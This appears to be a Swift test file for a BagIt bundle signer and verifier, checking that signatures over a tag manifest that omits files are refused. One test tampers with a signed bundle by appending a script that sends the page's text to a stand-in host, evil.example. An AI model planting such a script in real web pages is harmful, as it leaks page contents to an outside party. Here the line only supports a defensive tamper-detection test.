import Foundation
import PortaBundle
import PortaModel
import PortaTestSupport
import PortaVerify
import Testing

/// A signature over a tag manifest that lists too little would let the rest of the bundle be
/// changed under it: the tag manifest must pin every payload manifest, `bagit.txt`,
/// `bag-info.txt` and `porta-manifest.json`.
@Suite struct SignatureCoverageTests {
    /// The sample bundle with a tag manifest listing only `bagit.txt`.
    func bundleWithAThinTagManifest() async throws -> SampleBundle {
        let bundle = try await SampleBundle.make()
        let declaration = try [UInt8](Data(contentsOf: URL(fileURLWithPath: bundle.file("bagit.txt"))))
        try BagFiles.write("\(SHA256Hex.of(declaration))  bagit.txt\n", to: bundle.file("tagmanifest-sha256.txt"))
        return bundle
    }

    @Test func levelOneRefusesATagManifestThatDoesNotPinEveryTagFile() async throws {
        let bundle = try await bundleWithAThinTagManifest()
        let findings = try bundle.verify().findings.filter { $0.level == 1 }
        // RFC 8493 §2.2.1 needs the payload manifest; the porta/1 profile needs the other tag files.
        #expect(findings.filter { $0.code == "tag-manifest-incomplete" }.map(\.message)
                == ["does not list manifest-sha256.txt: every tag manifest must list every payload manifest (RFC 8493 §2.2.1)"])
        #expect(Set(findings.filter { $0.code == "profile-tag-coverage" }.compactMap { $0.message.split(separator: " ").dropFirst(3).first })
                == ["bag-info.txt,", "porta-manifest.json,"], "\(findings)")
    }

    @Test func signingRefusesSuchABag() async throws {
        let bundle = try await bundleWithAThinTagManifest()
        let outcome = try BundleSigner(key: SSHSigningKey(comment: "test")).sign(bundle.path, at: try Timestamp(parsing: SampleSubject.createdAt))
        guard case .refused(let report) = outcome else { Issue.record("signed"); return }
        #expect(report.findings.contains { $0.code == "tag-manifest-incomplete" })
        #expect(!FileManager.default.fileExists(atPath: bundle.file("porta-signature.sig")))
    }

    @Test func levelFiveRefusesASignatureThatCoversTooLittleBeforeSayingSigned() async throws {
        let bundle = try await bundleWithAThinTagManifest()
        // Signed as a careless tool would, without verifying first; then the page is changed.
        try BundleSignature.sign(bagAt: bundle.path, with: SSHSigningKey(comment: "test"))
        try BagFiles.append("<script>fetch('https://evil.example/'+document.body.innerText)</script>", to: bundle.file("data/index.html"))
        let report = try BundleVerifier(options: VerifyOptions(requireSignature: true)).verify(bundle.path)
        let authenticity = try #require(report.levels.first { $0.level == 5 })
        #expect(authenticity.findings.map(\.code) == ["tag-manifest-incomplete"])
        #expect(authenticity.detail == nil, "never 'signed by'")
        #expect(!report.isValid)
    }
}
